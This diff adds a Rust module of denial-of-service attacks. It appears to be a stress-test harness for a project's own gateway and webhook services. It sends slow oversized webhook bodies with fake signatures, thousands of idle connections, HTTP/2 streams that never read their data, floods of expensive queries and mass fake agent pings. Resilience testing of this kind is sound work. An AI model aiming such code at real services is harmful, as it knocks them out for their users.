@@ -1,0 +1,201 @@
+//! The attacks. All of them come from one address, and only the last one needs the right to send events.
+
+use std::convert::Infallible;
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use bytes::Bytes;
+use http_body_util::{BodyExt, Empty};
+use hyper::client::conn::http2::{Builder, SendRequest};
+use hyper_util::rt::{TokioExecutor, TokioIo, TokioTimer};
+use serde_json::json;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::task::JoinSet;
+use tokio::time::sleep;
+
+use crate::http::Connection;
+
+/// The addresses of the services.
+#[derive(Clone, Copy)]
+pub(crate) struct Target {
+    pub(crate) gateway: SocketAddr,
+    pub(crate) webhooks: SocketAddr,
+}
+
+#[derive(Clone, Copy)]
+pub(crate) enum Attack {
+    Bodies,
+    Connections,
+    Answers,
+    Subscribers,
+    Queries,
+    Agents,
+}
+
+/// The pause after an attempt that failed.
+const PAUSE: Duration = Duration::from_millis(100);
+
+impl Attack {
+    pub(crate) const ALL: [Self; 6] =
+        [Self::Bodies, Self::Connections, Self::Answers, Self::Subscribers, Self::Queries, Self::Agents];
+
+    pub(crate) fn name(self) -> &'static str {
+        match self {
+            Self::Bodies => "39 large deliveries with false signatures, at 1 KB/s after 16 MiB",
+            Self::Connections => "4,500 silent connections",
+            Self::Answers => "128 large answers over HTTP/2 that nobody reads, with PINGs",
+            Self::Subscribers => "72 HTTP/2 connections with as many unread streams as they get",
+            Self::Queries => "40 dear queries at a time over one connection",
+            Self::Agents => "pings of 10,000 agents that promise the next one for a day",
+        }
+    }
+
+    /// Begins the attack. It ends when the result is dropped.
+    pub(crate) fn begin(self, target: Target) -> JoinSet<()> {
+        let mut tasks = JoinSet::new();
+        let mut spawn = |count: usize, attack: fn(Target) -> BoxFuture| {
+            (0..count).for_each(|_| {
+                tasks.spawn(attack(target));
+            });
+        };
+        match self {
+            Self::Bodies => spawn(39, |target| Box::pin(again(move || body(target.webhooks)))),
+            Self::Connections => spawn(4_500, |target| Box::pin(again(move || silence(target.webhooks)))),
+            Self::Answers => spawn(1, |target| Box::pin(again(move || unread(target.gateway, 128, LARGE)))),
+            Self::Subscribers => {
+                spawn(72, |target| Box::pin(again(move || unread(target.gateway, 128, FEED))))
+            }
+            Self::Queries => spawn(1, |target| Box::pin(again(move || queries(target.gateway)))),
+            Self::Agents => spawn(1, |target| Box::pin(again(move || pings(target.gateway)))),
+        }
+        tasks
+    }
+}
+
+type BoxFuture = std::pin::Pin<Box<dyn Future<Output = ()> + Send>>;
+
+const LARGE: &str = "/api/v1/oasis/events?limit=1000";
+const FEED: &str = crate::sse::FEED;
+
+/// Repeats an attack whenever the service ends it.
+async fn again<F: Future<Output = anyhow::Result<Infallible>>>(attack: impl Fn() -> F) {
+    loop {
+        let Err(_ended) = attack().await;
+        sleep(PAUSE).await;
+    }
+}
+
+async fn body(address: SocketAddr) -> anyhow::Result<Infallible> {
+    let mut stream = TcpStream::connect(address).await?;
+    let head = format!(
+        "POST /webhooks/github HTTP/1.1\r\nhost: {address}\r\ncontent-type: application/json\r\n\
+         x-github-event: push\r\nx-hub-signature-256: sha256={}\r\ncontent-length: {}\r\n\r\n",
+        "0".repeat(64),
+        24 << 20
+    );
+    stream.write_all(head.as_bytes()).await?;
+    let part = vec![b' '; 64 << 10];
+    for _ in 0..256 {
+        stream.write_all(&part).await?;
+    }
+    loop {
+        stream.write_all(&part[..1_024]).await?;
+        sleep(Duration::from_secs(1)).await;
+    }
+}
+
+async fn silence(address: SocketAddr) -> anyhow::Result<Infallible> {
+    let mut stream = TcpStream::connect(address).await?;
+    let read = stream.read(&mut [0; 1]).await?;
+    anyhow::bail!("closed after {read} bytes")
+}
+
+/// Opens an HTTP/2 connection that sends PINGs, and does not allow the service to send data.
+async fn deaf(address: SocketAddr) -> anyhow::Result<SendRequest<Empty<Bytes>>> {
+    let mut builder = Builder::new(TokioExecutor::new());
+    builder.initial_stream_window_size(1).timer(TokioTimer::new());
+    builder.keep_alive_interval(Duration::from_secs(1)).keep_alive_while_idle(true);
+    let stream = TokioIo::new(TcpStream::connect(address).await?);
+    let (sender, connection) = builder.handshake(stream).await?;
+    tokio::spawn(connection);
+    Ok(sender)
+}
+
+fn request(address: SocketAddr, path: &str) -> anyhow::Result<hyper::Request<Empty<Bytes>>> {
+    Ok(hyper::Request::get(format!("http://{address}{path}")).body(Empty::new())?)
+}
+
+/// Requests `count` answers over one connection, and reads none of them. Requests an answer again after it
+/// was refused or has ended.
+async fn unread(address: SocketAddr, count: usize, path: &'static str) -> anyhow::Result<Infallible> {
+    let sender = deaf(address).await?;
+    let mut streams = JoinSet::<anyhow::Result<Infallible>>::new();
+    for _ in 0..count {
+        let mut sender = sender.clone();
+        streams.spawn(async move {
+            loop {
+                sender.ready().await?;
+                let answer = sender.send_request(request(address, path)?).await?;
+                if answer.status() == 200 {
+                    // The body is held for as long as the service lets it.
+                    let mut body = answer.into_body();
+                    sleep(Duration::from_secs(35)).await;
+                    while let Some(Ok(_)) = body.frame().await {}
+                }
+                sleep(PAUSE).await;
+            }
+        });
+    }
+    match streams.join_next().await {
+        Some(Ok(Err(error))) => Err(error),
+        _ => anyhow::bail!("the connection has ended"),
+    }
+}
+
+async fn queries(address: SocketAddr) -> anyhow::Result<Infallible> {
+    let stream = TokioIo::new(TcpStream::connect(address).await?);
+    let (sender, connection) = Builder::new(TokioExecutor::new()).handshake(stream).await?;
+    tokio::spawn(connection);
+    let kinds: Vec<String> = (0..50).map(|n| format!("kind{n}")).collect();
+    let path = format!(
+        "/api/v1/oasis/events?limit=1000&offset=100000&kind=workflow_run,push,{}\
+         &status=queued,in_progress,success,failure,cancelled,info",
+        kinds[..48].join(",")
+    );
+    let mut streams = JoinSet::<anyhow::Result<Infallible>>::new();
+    for _ in 0..40 {
+        let (mut sender, path) = (sender.clone(), path.clone());
+        streams.spawn(async move {
+            loop {
+                sender.ready().await?;
+                let answer = sender.send_request(request(address, &path)?).await?;
+                answer.into_body().collect().await?;
+            }
+        });
+    }
+    match streams.join_next().await {
+        Some(Ok(Err(error))) => Err(error),
+        _ => anyhow::bail!("the connection has ended"),
+    }
+}
+
+async fn pings(address: SocketAddr) -> anyhow::Result<Infallible> {
+    let mut connection = Connection::open(address).await?;
+    let mut first = 0_u64;
+    loop {
+        let events: Vec<_> = (first..first + 1_000)
+            .map(|n| {
+                let meta = json!({ "agent": format!("a{n}"), "instance": format!("i{n}"), "interval": 86_400 });
+                json!({ "source": "agent.ping", "kind": "ping", "status": "info", "module": "X", "meta": meta })
+            })
+            .collect();
+        first += 1_000;
+        let body = serde_json::to_string(&events)?;
+        let request = crate::http::post(address, "/events/ingest", "none", &body);
+        connection.exchange(request.as_bytes()).await?;
+        if first.is_multiple_of(10_000) {
+            sleep(Duration::from_secs(5)).await;
+        }
+    }
+}
